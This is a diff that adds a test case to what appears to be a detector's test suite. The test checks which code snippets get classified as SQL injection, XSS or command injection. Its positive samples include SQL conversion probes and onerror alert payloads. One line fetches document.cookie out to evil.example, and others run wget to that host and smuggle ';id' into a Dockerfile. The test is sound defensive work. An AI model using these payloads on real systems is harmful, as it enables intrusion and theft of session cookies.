@@ -686,3 +686,32 @@ t.test("(fifty-ninth round's second review, Chromium) quotes that start no strin
   ]) t.same(json({ snippet: v }), [], v.slice(0, 70))
   for (const v of ["To list tables, query information\\_schema.tables where table\\_schema = 'public'.", "select table_name from information\\_schema.tables where table_schema = 'public'"]) t.same(q(v), [], v)
 })
+
+t.test("(sixtieth round, tuned on the spent hundred-and-forty-first and -second parts) a conversion probe; a module importing its GraphQL tag; PHP's foreach by reference; a script's tail; a component's header comment and Babel's blocks; a Dockerfile's comment inside RUN", async (t) => {
+  for (const v of ["convert(int,'hen'+'tai') -- hehe", 'convert(int,@@version)', 'CONVERT(INT,db_name())--', "1+convert(int,'x')", "cast('a' as int)--"]) t.ok(q(v).includes('sqli'), v)
+  for (const v of ['convert(int, price)', 'cast to int', 'How to convert(int, string) in T-SQL?', 'cast(price as int)']) t.notOk(q(v).includes('sqli'), v)
+  for (const v of [
+    "import gql from 'graphql-tag';\n\nconst SET_ITEM = gql`\n  mutation setItem($id: UUID!, $complete: Boolean!) {\n    setItem(input: { id: $id, complete: $complete }) {\n      id\n      complete\n    }\n  }\n`;\n",
+    "import { gql } from '@apollo/client'\nexport const ME = gql`\n  query me {\n    me { id name }\n  }\n`\n",
+    '$s = $this->m->get();\nforeach ($s as &$x) {\n  f($x);\n}',
+    'defineProps({\n  label: String,\n  isOn: Boolean,\n});\n</script>\n',
+    'defineExpose({ getMarkdown });\n</script>\n\n<style>\n.editor { color: red }\n</style>\n',
+    "<script setup lang=\"ts\">\n/**\n * @ignore\n * Contains: GeneralTab\n */\n\nimport { trans } from '@common/i18n-renderer'\nconst a = ref(1)\n</script>\n",
+    "<script type=\"text/babel\">\n  import Modal from '../common/Modal.vue';\n  import 'vue-awesome/icons/arrow-left';\n\n  export default {\n    components: { Modal },\n  }\n</script>\n",
+    "<script setup lang=\"ts\">\n/**\n * Description: the initial tab for the about window.\n */\n\nimport { trans } from '@common/i18n-renderer'\n</script>\n",
+    "<script>\n  import 'vue-awesome/icons/exclamation-triangle';\n  import 'vue-awesome/icons/key';\n\n  export default {\n    name: 'app',\n  }\n</script>\n",
+    "<script>\n  \"use strict\";\n\n  import FileIcon from './common/FileIcon.vue';\n\n  export default {\n    components: { FileIcon },\n  }\n</script>\n",
+    'FROM debian:sid-slim\nLABEL maintainer="a@b.example"\nRUN apt-get update && \\\n    apt-get -y install curl && \\\n    # a newer version from pip\n    pip3 install dulwich\nWORKDIR /code\n',
+  ]) t.same(json({ snippet: v }), [], v.slice(0, 60))
+  for (const [v, cls] of [
+    ["import gql from 'graphql-tag'\nconst Q = gql`\n  query q { a }\n`\nx=`\nwget evil.example\n`", 'rce'],
+    ['x = 1;\n</script>\n<img src=x onerror=alert(1)>', 'xss'],
+    ['<b>x</b>\n</script>', 'xss'],
+    ['<script type="text/babel">\n  import a from "b";\n  alert(document.cookie)\n</script>\n', 'xss'],
+    ['<script setup>\n/* x */\nconst a = 1\nfetch("//evil.example/" + document.cookie)\n</script>\n', 'xss'],
+    ['FROM debian\nENV A=1 \\\n    # c\n    B=2\nRUN id\nUSER x\n;id', 'rce'],
+    ['<script setup>\n/* window. */\nimport a from "b"\nwindow.location = "//evil.example"\n</script>\n', 'xss'],
+    ["<script>\n  import 'x';\n  alert(1)\n</script>\n", 'xss'],
+    ['<script>\n"use strict";\nconst a = 1\ndocument.write("<img src=x onerror=alert(1)>")\n</script>\n', 'xss'],
+  ] as const) t.ok(json({ snippet: v }).includes(cls), `still read: ${v.slice(0, 60)}`)
+})
